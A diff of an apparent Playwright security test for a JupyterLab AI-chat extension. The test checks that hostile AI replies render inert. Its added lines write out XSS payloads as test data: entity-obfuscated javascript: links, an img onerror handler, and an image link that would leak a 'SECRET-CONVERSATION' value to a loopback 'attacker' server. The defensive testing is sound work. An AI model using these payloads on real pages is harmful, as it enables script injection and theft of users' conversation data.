@@ -11,18 +11,15 @@ path): it must trip both detectors, which proves the test can fail.
 
 from __future__ import annotations
 
-import http.server
 import json
-import threading
 import time
-from collections.abc import Iterator
-from dataclasses import dataclass, field
 
 import pytest
 from playwright.sync_api import Locator, Page, expect
 
 from yagpt_magic.emulator import Emulator
 
+from .conftest import Attacker
 from .jupyter import (
     KINDS,
     ServerFactory,
@@ -40,51 +37,6 @@ pytestmark = pytest.mark.browser
 
 SAFE_TEXT = "SAFE-VISIBLE-TEXT"
 END_TEXT = "SAFE-END-OF-REPLY"
-
-
-@dataclass
-class Attacker:
-    """A loopback HTTP server that counts what the page asks of it."""
-
-    port: int
-    paths: list[str] = field(default_factory=list)
-
-    @property
-    def url(self) -> str:
-        return f"http://127.0.0.1:{self.port}"
-
-    def hits(self, tag: str) -> list[str]:
-        """Requests that carry `tag`, i.e. came from the reply rendered under that tag."""
-        return [path for path in self.paths if f"tag={tag}" in path]
-
-
-@pytest.fixture(scope="session")
-def attacker() -> Iterator[Attacker]:
-    """The attacker's server; it answers every GET with a 1x1 GIF and remembers the path."""
-    paths: list[str] = []
-    gif = bytes.fromhex(
-        "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
-    )
-
-    class Handler(http.server.BaseHTTPRequestHandler):
-        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
-            paths.append(self.path)
-            self.send_response(200)
-            self.send_header("Content-Type", "image/gif")
-            self.send_header("Access-Control-Allow-Origin", "*")
-            self.send_header("Content-Length", str(len(gif)))
-            self.end_headers()
-            self.wfile.write(gif)
-
-        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
-            pass
-
-    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    yield Attacker(server.server_address[1], paths)
-    server.shutdown()
-    server.server_close()
 
 
 def hostile(tag: str, attacker: Attacker) -> str:
@@ -116,6 +68,14 @@ def hostile(tag: str, attacker: Attacker) -> str:
             "",
             f"Math html: $<img src=x onerror=\"{pwn % 'math-html'}\">$",
             "",
+            # Issue 13: marked (JupyterLab's Markdown) made these a live link and a fetch.
+            "[click me](<&#106;avascript:(window.__pwned=1)//<>)",
+            "",
+            "[also me](javascript&#58;(window.__pwned2=1)//(",
+            "",
+            f"![chart](<&#104;ttp://127.0.0.1:{attacker.port}/leak.png?tag={tag}"
+            "&q=SECRET-CONVERSATION<>)",
+            "",
             "```python",
             "print('SAFE-CODE-FENCE')",
             "```",
@@ -137,7 +97,9 @@ def pwned(page: Page) -> list[str] | None:
 CONTROL_TAGS = ("control", "output-control")
 CONTROL_VECTORS = ("script", "img-onerror", "iframe", "math-alt")
 JS_LINK = "a[href^='javascript' i]"
-CONTROL_LEAKS = ("/leak?", "/img?", "/css?")
+CONTROL_LEAKS = ("/leak?", "/img?", "/css?", "/leak.png?")
+#: javascript: links the control makes per rendering: the plain one and issue 13's two.
+CONTROL_JS_LINKS = 3
 
 
 def wait_for_pwned(page: Page, entries: tuple[str, ...]) -> None:
@@ -236,7 +198,8 @@ def test_hostile_reply_is_inert(
     screenshot(page, f"xss-{kind}-control")
     # (Jupyter opens links in a new tab, where Chromium will not run `javascript:`;
     # that such a link gets made at all is what the reply's output is checked for.)
-    assert cell_output_locator(page, control).locator(JS_LINK).count() == len(CONTROL_TAGS)
+    js_links = cell_output_locator(page, control).locator(JS_LINK).count()
+    assert js_links == CONTROL_JS_LINKS * len(CONTROL_TAGS)
     # ...and once its handlers and fetches are done, the reply's would have been too.
     assert [e for e in pwned(page) or [] if not e.startswith(("control:", "output-"))] == []
     assert attacker.hits("chat") == attacker.hits("widget") == []
